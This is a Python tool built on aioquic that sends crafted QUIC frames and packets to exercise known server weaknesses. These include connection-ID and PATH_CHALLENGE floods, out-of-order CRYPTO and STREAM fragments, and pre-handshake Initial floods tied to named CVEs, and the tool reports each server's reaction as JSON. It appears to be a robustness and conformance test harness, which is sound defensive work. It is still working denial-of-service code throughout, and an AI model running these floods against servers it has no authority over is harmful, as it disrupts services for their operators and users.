#!/usr/bin/env python3
"""A QUIC client on aioquic that makes the published attacks on QUIC servers: after a real
handshake it writes its own frames, in 1-RTT packets it encrypts with the connection's keys,
and reports how the server answered.

    quic_attack_peer.py --host H --port P --alpn ALPN --ca FILE [--sni NAME] --attack ATTACK
                        [--count N] [--timeout 20] [--hold 0]

Attacks (``--count`` scales each):

``new-cid-limit``
    NEW_CONNECTION_ID frames past the server's active_connection_id_limit, retiring nothing
    (RFC 9000 §5.1.1: CONNECTION_ID_LIMIT_ERROR, 0x9).
``new-cid-retire``
    N NEW_CONNECTION_ID frames, each retiring every earlier ID (Retire Prior To = its sequence
    number), with the client's acknowledgements withheld, so the server's RETIRE_CONNECTION_ID
    frames are never acknowledged (CVE-2024-22189: a server that queues one per frame grows
    without bound; the defence is a bound on unacknowledged retirements).
``retire-cid-unissued``
    RETIRE_CONNECTION_ID for a sequence number the server never issued (§19.16:
    PROTOCOL_VIOLATION, 0xa).
``retire-cid-flood``
    N rounds of retiring every connection ID the server issued (except the one in use), each
    round waiting for the replacements: the server may issue only as many as it keeps.
``path-challenge``
    N PATH_CHALLENGE frames, about 130 to a packet (CVE-2023-49295: a server that queues a
    PATH_RESPONSE per challenge grows without bound). Reports ``responses`` and ``packets``.
``crypto-gap``
    A 1-RTT CRYPTO frame 70,000 bytes ahead of the stream (RFC 9000 §7.5:
    CRYPTO_BUFFER_EXCEEDED, 0xd).
``ack-unsent``
    An ACK of a packet number the server has not sent (§13.1: PROTOCOL_VIOLATION, 0xa).
``ack-ranges``
    An ACK frame of many ranges whose gaps run below packet number 0 (§19.3.1:
    FRAME_ENCODING_ERROR, 0x7).
``pn-gaps``
    N PING packets whose packet numbers skip every other one, so the server's record of what
    to acknowledge fragments into as many ranges.
``stream-fragments``
    N one-byte STREAM frames on each of ``--streams`` streams (default: as many as the server
    allows), spread as far apart as its windows allow and never at offset 0, so nothing is
    delivered and the server holds one out-of-order piece per frame. Reports ``frames`` sent.
    With ``--expect-open`` the client expects no close and checks the connection still echoes.
``uni-streams``
    N unidirectional streams, one byte (0x21, a reserved HTTP/3 stream type) and FIN each, opened as fast as the server's
    MAX_STREAMS lets it (it waits for each grant of credit, up to ``--timeout``), so a server
    that returns the credit of every stream it consumed keeps receiving new ones. With
    ``--out-of-order`` each stream's data is two one-byte frames in one packet, the second
    byte (with FIN) first, so the server's QUIC stack buffers it out of order before the first
    arrives. Reports ``opened`` (streams sent), ``granted`` (the server's last stream limit),
    ``stalled`` (the server stopped granting before N, or closed the connection), and
    ``seconds``. With ``--expect-open`` the client expects no close.

Before any handshake (Initials this client encrypts itself, each to a fresh connection ID):

``initial-crypto-gap``
    A ClientHello, then Initials of CRYPTO pieces from one piece past its end up to 100,000
    bytes, the gap never filled; reports the end of the highest piece the server acknowledged
    (``highest_acked_end``: what it kept out of order) and how many it did not.
``initial-crypto-flood``
    N connections, each a ClientHello and then Initials of CRYPTO pieces up to
    ``--crypto-bytes``, leaving a gap after the ClientHello, so the server holds every piece
    out of order (CVE-2024-1765).
``coalesced-flood``
    N connections, each a real ClientHello with undecryptable 0-RTT and Handshake packets
    coalesced after it, then ``--garbage`` datagrams of such packets (CVE-2025-54939,
    "QUIC-LEAK": a server that keeps what it cannot yet decrypt, or leaks it).
    Both floods report ``datagrams``, ``replies`` and ``retries`` and never complete a handshake.

After the attack the client waits for the server's CONNECTION_CLOSE (up to ``--timeout``);
attacks that expect none (``retire-cid-flood``, ``path-challenge``, ``pn-gaps``) then check the
connection still echoes a stream. ``--hold S`` keeps the connection S seconds after the attack
(acknowledging) before that check.

Prints one JSON object: ``attack``, ``closed_by`` (``"peer"``: the server's CONNECTION_CLOSE;
``"timeout"``: none within --timeout; ``"idle_timeout"``, ``"local"``), ``error_code``,
``frame_type``, ``reason``, ``alive`` (the echo after the attack came back, or null when not
tried), ``close_ms`` (from the attack's first packet to the close), and the attack's counts.
Exit status: 0 done, 2 usage, 4 the handshake failed.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import logging
import os
import socket
import sys
import time
from typing import Any

from aioquic import tls
from aioquic.asyncio import QuicConnectionProtocol, connect
from aioquic.buffer import Buffer
from aioquic.buffer import encode_uint_var as varint
from aioquic.quic import events
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.crypto import CryptoPair
from aioquic.quic.packet import QuicPacketType, pull_quic_header

_received_close = QuicConnection._handle_connection_close_frame


def _note_received_close(self: QuicConnection, context: Any, frame_type: int, buf: Any) -> None:
    self.attack_close_received_at = time.monotonic()  # type: ignore[attr-defined]
    _received_close(self, context, frame_type, buf)


QuicConnection._handle_connection_close_frame = _note_received_close  # type: ignore[method-assign]

_received_path_response = QuicConnection._handle_path_response_frame


def _count_path_response(self: QuicConnection, context: Any, frame_type: int, buf: Any) -> None:
    self.attack_path_responses = getattr(self, "attack_path_responses", 0) + 1  # type: ignore[attr-defined]
    _received_path_response(self, context, frame_type, buf)


QuicConnection._handle_path_response_frame = _count_path_response  # type: ignore[method-assign]


class AttackClient(QuicConnectionProtocol):
    def __init__(self, *args: Any, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        loop = asyncio.get_running_loop()
        self.terminated: asyncio.Future[events.ConnectionTerminated] = loop.create_future()
        self.echoes: dict[int, bytes] = {}
        self.echo_done: dict[int, asyncio.Future[bytes]] = {}

    def quic_event_received(self, event: events.QuicEvent) -> None:
        if isinstance(event, events.ConnectionTerminated) and not self.terminated.done():
            self.terminated.set_result(event)
        elif isinstance(event, events.StreamDataReceived):
            self.echoes[event.stream_id] = self.echoes.get(event.stream_id, b"") + event.data
            done = self.echo_done.get(event.stream_id)
            if event.end_stream and done is not None and not done.done():
                done.set_result(self.echoes[event.stream_id])


class RawSender:
    """Writes frames in 1-RTT packets of its own, encrypted with the connection's keys and
    numbered from aioquic's packet counter, so aioquic's later packets follow on."""

    def __init__(self, client: AttackClient) -> None:
        self.client = client
        self.quic = client._quic
        self.packets = 0

    def packet(self, payload: bytes, skip: int = 0) -> None:
        quic = self.quic
        quic._packet_number += skip
        number = quic._packet_number
        quic._packet_number += 1
        crypto = quic._cryptos[tls.Epoch.ONE_RTT]
        # Short header: fixed bit, key phase, 4-byte packet number (so gaps stay decodable).
        header = bytes([0x40 | (crypto.key_phase << 2) | 0x03]) + quic._peer_cid.cid + (number & 0xFFFFFFFF).to_bytes(4, "big")
        if len(payload) < 4:
            payload += bytes(4 - len(payload))
        self.client._transport.sendto(crypto.encrypt_packet(header, payload, number), quic._network_paths[0].addr)
        self.packets += 1

    async def frames(self, frames: Any, limit: int = 1100) -> None:
        """Packs `frames` into packets of up to `limit` bytes of payload, yielding to the loop
        every 32 packets so the server's packets are read meanwhile."""
        payload = b""
        for frame in frames:
            if payload and len(payload) + len(frame) > limit:
                self.packet(payload)
                payload = b""
                if self.packets % 32 == 0:
                    await asyncio.sleep(0.001)
            payload += frame
        if payload:
            self.packet(payload)


def new_connection_id(sequence: int, retire_prior_to: int) -> bytes:
    return varint(0x18) + varint(sequence) + varint(retire_prior_to) + bytes([8]) + os.urandom(8) + os.urandom(16)


def stream_frame(stream_id: int, offset: int, data: bytes, fin: bool = False) -> bytes:
    # Type 0x0e: offset and length present, no FIN (0x0f: with FIN).
    return varint(0x0F if fin else 0x0E) + varint(stream_id) + varint(offset) + varint(len(data)) + data


async def unidirectional_streams(client: AttackClient, raw: RawSender, args: argparse.Namespace, report: dict[str, Any]) -> None:
    """Opens `--count` client unidirectional streams (IDs 2, 6, 10, ...), one byte and FIN
    each, as the server's stream limit allows, waiting for each raise of it."""
    quic = client._quic
    opened = 0
    started = time.monotonic()
    stalled = False
    while opened < args.count and not client.terminated.done():
        limit = quic._remote_max_streams_uni
        if opened >= limit:
            # The server raises the limit (MAX_STREAMS) as its application consumes streams.
            deadline = time.monotonic() + args.timeout
            while quic._remote_max_streams_uni <= opened and time.monotonic() < deadline and not client.terminated.done():
                await asyncio.sleep(0.002)
            if quic._remote_max_streams_uni <= opened:
                stalled = True
                break
            continue
        batch = range(opened, min(limit, args.count))

        def frames():
            for index in batch:
                stream_id = 2 + 4 * index
                # 0x21: a reserved stream type (RFC 9114 §6.2.3), which an HTTP/3 server reads
                # and drops; any other server takes it as a byte like another.
                if args.out_of_order:
                    yield stream_frame(stream_id, 1, b"\x21", fin=True) + stream_frame(stream_id, 0, b"\x21")
                else:
                    yield stream_frame(stream_id, 0, b"\x21", fin=True)

        await raw.frames(frames())
        opened = batch.stop
        await asyncio.sleep(0)
    report.update(opened=opened, granted=quic._remote_max_streams_uni, stalled=stalled or client.terminated.done(),
                  seconds=round(time.monotonic() - started, 3))


async def echo_check(client: AttackClient, timeout: float) -> bool:
    quic = client._quic
    stream_id = quic.get_next_available_stream_id()
    done: asyncio.Future[bytes] = asyncio.get_running_loop().create_future()
    client.echo_done[stream_id] = done
    quic.send_stream_data(stream_id, b"still served", end_stream=True)
    client.transmit()
    try:
        return await asyncio.wait_for(asyncio.shield(done), timeout) == b"still served"
    except asyncio.TimeoutError:
        return False


async def attack(client: AttackClient, args: argparse.Namespace, report: dict[str, Any]) -> bool:
    """Makes the attack; returns whether the server is expected to close the connection."""
    quic = client._quic
    raw = RawSender(client)
    count = args.count
    # aioquic issues connection IDs of its own; the attack's sequence numbers follow them.
    first = max(cid.sequence_number for cid in quic._host_cids) + 1
    if args.attack == "new-cid-limit":
        await raw.frames(new_connection_id(sequence, 0) for sequence in range(first, first + count))
        report["frames"] = count
        return True
    if args.attack == "new-cid-retire":
        # Withhold acknowledgements: the server's RETIRE_CONNECTION_ID frames stay unacknowledged.
        quic._write_ack_frame = lambda builder, space, now: setattr(space, "ack_at", None)  # type: ignore[method-assign]
        await raw.frames(new_connection_id(sequence, sequence) for sequence in range(first, first + count))
        report["frames"] = count
        return True
    if args.attack == "retire-cid-unissued":
        await raw.frames([varint(0x19) + varint(1_000_000)])
        return True
    if args.attack == "retire-cid-flood":
        retired = 0
        issued_before = max((cid.sequence_number for cid in quic._peer_cid_available), default=0)
        for _ in range(count):
            available = [cid for cid in quic._peer_cid_available]
            if not available:
                await asyncio.sleep(0.05)
                continue
            quic._peer_cid_available = []
            await raw.frames([varint(0x19) + varint(cid.sequence_number) for cid in available])
            retired += len(available)
            deadline = time.monotonic() + 5
            while not quic._peer_cid_available and time.monotonic() < deadline and not client.terminated.done():
                await asyncio.sleep(0.01)
        issued_after = max((cid.sequence_number for cid in quic._peer_cid_available), default=0)
        report.update(retired=retired, highest_sequence=max(issued_after, issued_before))
        return False
    if args.attack == "path-challenge":
        await raw.frames(varint(0x1A) + os.urandom(8) for _ in range(count))
        report.update(challenges=count, packets=raw.packets)
        return False
    if args.attack == "crypto-gap":
        await raw.frames([varint(0x06) + varint(70_000) + varint(100) + bytes(100)])
        return True
    if args.attack == "ack-unsent":
        await raw.frames([varint(0x02) + varint(1_000_000) + varint(0) + varint(0) + varint(0)])
        return True
    if args.attack == "ack-ranges":
        # Once HANDSHAKE_DONE is in, packet 0 of the server's 1-RTT space was sent: the ACK is of
        # a packet sent, and only its ranges are wrong, running below 0.
        deadline = time.monotonic() + args.timeout
        while not quic._handshake_confirmed and time.monotonic() < deadline:
            await asyncio.sleep(0.01)
        largest = 0
        ranges = 300
        body = varint(largest) + varint(0) + varint(ranges) + varint(0)
        body += b"".join(varint(0) + varint(0) for _ in range(ranges))
        await raw.frames([varint(0x02) + body], limit=1400)
        report["largest"] = largest
        return True
    if args.attack == "pn-gaps":
        for index in range(count):
            raw.packet(b"\x01", skip=1)
            if index % 32 == 31:
                await asyncio.sleep(0.001)
        report["packets"] = raw.packets
        return False
    if args.attack == "stream-fragments":
        stream_window = quic._remote_max_stream_data_bidi_remote
        connection_window = quic._remote_max_data
        streams = args.streams or quic._remote_max_streams_bidi - 1
        # Pieces as far apart as the windows allow (each stream's highest offset counts against
        # the connection's window), at least every other byte.
        spacing = max(2, min(stream_window, connection_window // streams) // (count + 1))
        frames = 0

        def pieces():
            nonlocal frames
            for _ in range(streams):
                stream_id = quic.get_next_available_stream_id()
                # aioquic's stream table learns the stream, so a later echo picks another ID.
                quic._get_or_create_stream_for_send(stream_id)
                for index in range(count):
                    frames += 1
                    yield stream_frame(stream_id, 1 + index * spacing, b"x")

        await raw.frames(pieces())
        report.update(frames=frames, streams=streams, spacing=spacing, stream_window=stream_window,
                      connection_window=connection_window)
        return not args.expect_open
    if args.attack == "uni-streams":
        await unidirectional_streams(client, raw, args, report)
        return not args.expect_open
    raise SystemExit(f"unknown attack {args.attack}")


async def run(args: argparse.Namespace) -> int:
    configuration = QuicConfiguration(is_client=True, alpn_protocols=[args.alpn], server_name=args.sni or args.host)
    configuration.idle_timeout = args.timeout + args.hold + 10
    configuration.load_verify_locations(args.ca)
    report: dict[str, Any] = {"attack": args.attack, "alive": None}
    try:
        async with connect(args.host, args.port, configuration=configuration, create_protocol=AttackClient) as client:
            assert isinstance(client, AttackClient)
            quic = client._quic
            # Give the server's NEW_CONNECTION_ID frames time to arrive before retiring them.
            if args.attack == "retire-cid-flood":
                deadline = time.monotonic() + args.timeout
                while not quic._peer_cid_available and time.monotonic() < deadline:
                    await asyncio.sleep(0.01)
            started = time.monotonic()
            expects_close = await attack(client, args, report)
            client.transmit()
            if args.hold > 0 and not client.terminated.done():
                try:
                    await asyncio.wait_for(asyncio.shield(client.terminated), args.hold)
                except asyncio.TimeoutError:
                    pass
            if not expects_close and not client.terminated.done():
                report["alive"] = await echo_check(client, args.timeout)
            if expects_close or client.terminated.done():
                try:
                    await asyncio.wait_for(asyncio.shield(client.terminated), args.timeout)
                except asyncio.TimeoutError:
                    pass
            report["path_responses"] = getattr(quic, "attack_path_responses", 0)
            if client.terminated.done():
                event = client.terminated.result()
                received_at = getattr(quic, "attack_close_received_at", None)
                closed_by = "peer" if received_at is not None else (
                    "idle_timeout" if event.reason_phrase == "Idle timeout" else "local")
                report.update(closed_by=closed_by, error_code=event.error_code, frame_type=event.frame_type,
                              reason=event.reason_phrase,
                              close_ms=None if received_at is None else round((received_at - started) * 1000, 3))
            else:
                report.update(closed_by="timeout", error_code=None, frame_type=None, reason=None)
    except ConnectionError as error:
        report.update(closed_by="handshake_failed", error=str(error))
        print(json.dumps(report), flush=True)
        return 4
    print(json.dumps(report), flush=True)
    return 0


# Attacks before any handshake: Initials this client encrypts itself, to fresh connection IDs.

INITIAL_HEADER = 1 + 4 + 1 + 8 + 1 + 8 + 1 + 2 + 2


def client_hello(args: argparse.Namespace) -> tuple[bytes, int, bytes]:
    """A real client's ClientHello (the CRYPTO frame's data at offset 0), QUIC version and
    source connection ID (its transport parameters name it: every Initial carries it)."""
    configuration = QuicConfiguration(is_client=True, alpn_protocols=[args.alpn], server_name=args.sni or args.host)
    quic = QuicConnection(configuration=configuration)
    quic.connect((args.host, args.port), now=time.time())
    datagram = next(data for data, _ in quic.datagrams_to_send(now=time.time()))
    buf = Buffer(data=datagram)
    header = pull_quic_header(buf, host_cid_length=8)
    server_side = CryptoPair()
    server_side.setup_initial(cid=header.destination_cid, is_client=False, version=header.version)
    _, payload, _ = server_side.decrypt_packet(datagram[: header.packet_length], buf.tell(), 0)
    frames = Buffer(data=payload)
    while True:
        frame_type = frames.pull_uint_var()
        if frame_type == 0x06:
            frames.pull_uint_var()
            return frames.pull_bytes(frames.pull_uint_var()), header.version, header.source_cid


def long_packet(kind: int, version: int, destination: bytes, source: bytes, number: int, payload: bytes,
                crypto: CryptoPair | None, token: bool = True) -> bytes:
    """A long-header packet (kind 0: Initial, 1: 0-RTT, 2: Handshake) with a 2-byte packet
    number; encrypted with `crypto`, or random bytes in place of a ciphertext without it."""
    length = 2 + len(payload) + 16
    header = (bytes([0xC1 | kind << 4]) + version.to_bytes(4, "big") + bytes([len(destination)]) + destination
              + bytes([len(source)]) + source + (b"\x00" if kind == 0 and token else b"")
              + (0x4000 | length).to_bytes(2, "big") + number.to_bytes(2, "big"))
    if crypto is None:
        return header + os.urandom(len(payload) + 16)
    return crypto.encrypt_packet(header, payload, number)


def initial(version: int, destination: bytes, source: bytes, number: int, frames: bytes, padded_to: int = 1200) -> bytes:
    pair = CryptoPair()
    pair.setup_initial(cid=destination, is_client=True, version=version)
    frames += bytes(max(0, padded_to - INITIAL_HEADER - len(frames) - 16))
    return long_packet(0, version, destination, source, number, frames, pair)


def crypto_frame(offset: int, data: bytes) -> bytes:
    return varint(0x06) + varint(offset) + varint(len(data)) + data


def server_initial_frames(datagram: bytes, destination: bytes, version: int) -> tuple[set[int], int | None]:
    """What the server's Initial packets in `datagram` say: the packet numbers they acknowledge
    and the error code of a CONNECTION_CLOSE (or None)."""
    acked: set[int] = set()
    close = None
    buf = Buffer(data=datagram)
    while not buf.eof():
        start = buf.tell()
        try:
            header = pull_quic_header(buf, host_cid_length=8)
        except ValueError:
            break
        end = start + header.packet_length
        if header.packet_type == QuicPacketType.INITIAL:
            pair = CryptoPair()
            pair.setup_initial(cid=destination, is_client=True, version=version)
            try:
                _, payload, _ = pair.decrypt_packet(datagram[start:end], buf.tell() - start, 0)
            except Exception:
                break
            frames = Buffer(data=payload)
            while not frames.eof():
                frame_type = frames.pull_uint_var()
                if frame_type in (0x00, 0x01):
                    continue
                if frame_type in (0x02, 0x03):
                    largest = frames.pull_uint_var()
                    frames.pull_uint_var()
                    ranges = frames.pull_uint_var()
                    smallest = largest - frames.pull_uint_var()
                    acked.update(range(smallest, largest + 1))
                    for _ in range(ranges):
                        largest = smallest - frames.pull_uint_var() - 2
                        smallest = largest - frames.pull_uint_var()
                        acked.update(range(smallest, largest + 1))
                    if frame_type == 0x03:
                        for _ in range(3):
                            frames.pull_uint_var()
                    continue
                if frame_type == 0x1C:
                    close = frames.pull_uint_var()
                break
        buf.seek(end)
    return acked, close


class PrehandshakeSockets:
    def __init__(self, count: int) -> None:
        self.sockets = []
        for _ in range(count):
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.bind(("127.0.0.1", 0))
            sock.setblocking(False)
            self.sockets.append(sock)
        self.replies: list[bytes] = []
        self.dropped = 0

    def send(self, index: int, data: bytes, address: tuple[str, int]) -> None:
        try:
            self.sockets[index % len(self.sockets)].sendto(data, address)
        except BlockingIOError:
            self.dropped += 1

    def drain(self) -> None:
        for sock in self.sockets:
            while True:
                try:
                    self.replies.append(sock.recv(65536))
                except (BlockingIOError, ConnectionRefusedError):
                    break


def prehandshake(args: argparse.Namespace) -> int:
    """``initial-crypto-gap``, ``initial-crypto-flood`` and ``coalesced-flood``."""
    hello, version, source = client_hello(args)
    address = (args.host, args.port)
    sockets = PrehandshakeSockets(16)
    report: dict[str, Any] = {"attack": args.attack}
    started = time.monotonic()
    piece = 1100
    if args.attack == "initial-crypto-gap":
        # The ClientHello (packet 0), then pieces from one piece past its end up to 100,000
        # bytes (packets 1...), the gap after the ClientHello never filled. The server
        # acknowledges the pieces it keeps.
        destination = os.urandom(8)
        sockets.send(0, initial(version, destination, source, 0, crypto_frame(0, hello)), address)
        ends = {0: len(hello)}
        for number, offset in enumerate(range(len(hello) + piece, 100_000, piece), start=1):
            sockets.send(0, initial(version, destination, source, number, crypto_frame(offset, os.urandom(piece))), address)
            ends[number] = offset + piece
            time.sleep(0.001)
        acked: set[int] = set()
        code = None
        deadline = time.monotonic() + min(args.timeout, 3)
        while time.monotonic() < deadline:
            time.sleep(0.01)
            sockets.drain()
        for reply in sockets.replies:
            numbers, close = server_initial_frames(reply, destination, version)
            acked |= numbers
            code = code if code is not None else close
        kept = [ends[number] for number in acked if number in ends and number > 0]
        report.update(closed_by="peer" if code is not None else "none", error_code=code, replies=len(sockets.replies),
                      hello_bytes=len(hello), sent_end=max(ends.values()), acked_pieces=len(kept),
                      highest_acked_end=max(kept, default=0), unacked_pieces=len(ends) - 1 - len(kept))
        print(json.dumps(report), flush=True)
        return 0
    datagrams = 0
    for index in range(args.count):
        destination = os.urandom(8)
        if args.attack == "initial-crypto-flood":
            # The ClientHello, then CRYPTO pieces from one piece past its end, never the gap
            # between: all of them held out of order.
            sockets.send(index, initial(version, destination, source, 0, crypto_frame(0, hello)), address)
            datagrams += 1
            for number, offset in enumerate(range(len(hello) + piece, args.crypto_bytes, piece), start=1):
                sockets.send(index, initial(version, destination, source, number, crypto_frame(offset, os.urandom(piece))), address)
                datagrams += 1
        else:
            # A real ClientHello with undecryptable Handshake and 0-RTT packets coalesced after it,
            # then datagrams of nothing but such packets to the same connection.
            first = initial(version, destination, source, 0, crypto_frame(0, hello), padded_to=len(hello) + 64)
            garbage = b"".join(long_packet(2 if n % 2 else 1, version, destination, source, n, bytes(100), None)
                               for n in range(8))
            sockets.send(index, first + garbage + bytes(max(0, 1200 - len(first) - len(garbage))), address)
            datagrams += 1
            for _ in range(args.garbage):
                sockets.send(index, b"".join(long_packet(2, version, destination, source, n, bytes(120), None)
                                             for n in range(8)), address)
                datagrams += 1
        if index % 8 == 7:
            sockets.drain()
            time.sleep(0.001)
    deadline = time.monotonic() + 0.5
    while time.monotonic() < deadline:
        sockets.drain()
        time.sleep(0.01)
    report.update(connections=args.count, datagrams=datagrams, dropped_locally=sockets.dropped, replies=len(sockets.replies),
                  retries=sum(1 for reply in sockets.replies if reply and reply[0] & 0xF0 == 0xF0),
                  seconds=round(time.monotonic() - started, 3))
    print(json.dumps(report), flush=True)
    return 0


ATTACKS = ["new-cid-limit", "new-cid-retire", "retire-cid-unissued", "retire-cid-flood", "path-challenge",
           "crypto-gap", "ack-unsent", "ack-ranges", "pn-gaps", "stream-fragments", "uni-streams"]
PREHANDSHAKE = ["initial-crypto-gap", "initial-crypto-flood", "coalesced-flood"]


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--alpn", required=True)
    parser.add_argument("--sni")
    parser.add_argument("--ca", required=True)
    parser.add_argument("--attack", required=True, choices=ATTACKS + PREHANDSHAKE)
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--timeout", type=float, default=20)
    parser.add_argument("--hold", type=float, default=0)
    parser.add_argument("--crypto-bytes", type=int, default=65000, help="initial-crypto-flood: CRYPTO bytes per connection")
    parser.add_argument("--garbage", type=int, default=4, help="coalesced-flood: datagrams of garbage after each ClientHello")
    parser.add_argument("--streams", type=int, default=0, help="stream-fragments: streams to fragment (0: all the server allows)")
    parser.add_argument("--expect-open", action="store_true",
                        help="stream-fragments, uni-streams: expect no close, and check the connection still echoes")
    parser.add_argument("--out-of-order", action="store_true",
                        help="uni-streams: each stream's second byte first, so the server buffers it out of order")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING, stream=sys.stderr)
    if args.attack in PREHANDSHAKE:
        return prehandshake(args)
    return asyncio.run(run(args))


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
